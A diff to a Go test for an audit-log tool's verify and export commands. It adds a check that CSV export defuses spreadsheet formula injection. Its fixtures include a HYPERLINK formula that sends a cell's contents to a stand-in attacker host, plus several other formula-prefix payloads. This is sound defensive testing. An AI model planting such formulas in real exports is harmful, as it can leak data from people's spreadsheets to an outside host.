@@ -3,6 +3,7 @@ package main
 import (
 	"encoding/csv"
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -32,15 +33,22 @@ func TestAuditVerifyAndExport(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
+	// What a member typed, meant for a spreadsheet that opens the export.
+	formulas := []string{`=HYPERLINK("http://evil.example/"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"}
+	for _, f := range formulas {
+		if _, err = db.Audit.Append(t.Context(), &state.AuditEntry{Actor: "@mallory:example.org", Action: "command.unknown", Arguments: f, Detail: f, Outcome: "refused"}); err != nil {
+			t.Fatal(err)
+		}
+	}
 
 	code, out, errOut := runCLI("audit", "verify", "--config", cfg)
-	if code != 0 || !strings.Contains(out, "intact: 3 entries") {
+	if code != 0 || !strings.Contains(out, fmt.Sprintf("intact: %d entries", 3+len(formulas))) {
 		t.Fatalf("verify on an intact log: exit %d, %q %q", code, out, errOut)
 	}
 
 	code, out, _ = runCLI("audit", "export", "--config", cfg)
 	lines := strings.Split(strings.TrimSpace(out), "\n")
-	if code != 0 || len(lines) != 3 {
+	if code != 0 || len(lines) != 3+len(formulas) {
 		t.Fatalf("export jsonl: exit %d, %d lines", code, len(lines))
 	}
 	var first state.AuditEntry
@@ -58,8 +66,14 @@ func TestAuditVerifyAndExport(t *testing.T) {
 	}
 	records, err := csv.NewReader(f).ReadAll()
 	f.Close()
-	if err != nil || len(records) != 4 || records[0][0] != "id" || records[2][6] != "command.status" || records[1][7] != `say "hi", then go` {
-		t.Errorf("csv export = %q (%v)", records, err)
+	if err != nil || len(records) != 4+len(formulas) || records[0][0] != "id" || records[2][6] != "command.status" || records[1][7] != `say "hi", then go` {
+		t.Fatalf("csv export = %q (%v)", records, err)
+	}
+	for i, f := range formulas {
+		row := records[4+i]
+		if row[7] != "'"+f || row[9] != "'"+f {
+			t.Errorf("csv cells of %q = %q and %q, want it kept from being a formula", f, row[7], row[9])
+		}
 	}
 
 	if _, err = db.Raw.RawDB.Exec("UPDATE audit SET outcome='refused' WHERE id=2"); err != nil {
